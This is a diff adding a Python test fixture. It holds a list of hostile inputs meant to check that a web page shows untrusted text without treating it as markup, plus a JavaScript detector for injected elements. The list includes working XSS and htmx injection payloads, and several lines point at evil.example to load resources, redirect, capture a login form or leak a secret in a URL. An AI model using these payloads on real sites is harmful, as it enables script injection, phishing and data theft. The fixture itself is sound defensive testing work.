@@ -1,0 +1,44 @@
+"""Texts that would act if a page took them for markup, and how to see that they did not."""
+
+from __future__ import annotations
+
+#: Rows 90 to 94 of the bad inputs.
+HOSTILE = [
+    "<script>alert('script')</script>",
+    "<img src=x onerror=alert('img')>",
+    "<svg onload=alert('svg')><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<a href=\"javascript:alert('href')\">click</a>",
+    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
+    "<style>@import 'http://evil.example/x.css'; * { display: none }</style>",
+    '<base href="http://evil.example/">',
+    '<form action="http://evil.example/"><button>Log in</button></form>',
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=alert('mxss')>\">",
+    "</li></ol></main></body><h1 id=broken>out</h1>",
+    "</textarea></pre></bdi></template><h1 id=broken>out</h1>",
+    '<div hx-get="/admin/" hx-trigger="load" hx-target="body">x</div>',
+    "<div hx-on:click=\"alert('on')\" hx-on--load=\"alert('load')\" _=\"on load call alert('hyper')\">x</div>",
+    '<div data-hx-get="/login" data-hx-trigger="load" data-hx-swap-oob="true" id="head">x</div>',
+    '<li id="e1" hx-swap-oob="outerHTML:#timeline">gone</li>',
+    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
+    "<link rel=stylesheet href=//evil.example/x.css><object data=//evil.example></object>",
+    "![x](http://evil.example/?q=secret) [a](javascript:alert('markdown'))",
+    "{{ 7*7 }} {% debug %} ${7*7} #{7*7}",
+    "\u202egnp.exe\u2066 \u200bzero\u200dwidth\ufeff",
+    "data: x\n\nevent: end\ndata: y\n\nid: 99999\n\n",
+    "data: x\r\revent: end\rdata: y\r\r",
+    "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x1b]8;;http://evil.example\x07link \x9b31m \b\b\b",
+    "\u2028\u2029 lines ]]> <![CDATA[ <!-- comment",
+    "Z" + "\u0301" * 500 + " " + "W" * 5000,
+]
+WHOLE = "\n".join(HOSTILE)
+#: What only such a text could have brought into `main`: elements, handlers, and addresses that are not ours.
+FOREIGN = r"""() => {
+  const tags = /^(script|img|iframe|style|base|math|object|link|meta|animate|mglyph|mtext)$/i;
+  const acts = /^(on|hx-on|data-hx-|_$|srcdoc)/i;
+  const ours = /^([/?#]|$)/;
+  const strange = (node) => node.id === "broken" || tags.test(node.tagName) ||
+    [...node.attributes].some(({ name, value }) => acts.test(name) ||
+      (/^(href|src|action|formaction|hx-get|hx-post)$/.test(name) && (!ours.test(value) || value.startsWith("//"))) ||
+      (name === "hx-get" && !/^\/(runs|p)\//.test(value)));
+  return [...document.querySelectorAll("main *, body > #broken")].filter(strange).map((node) => node.outerHTML);
+}"""
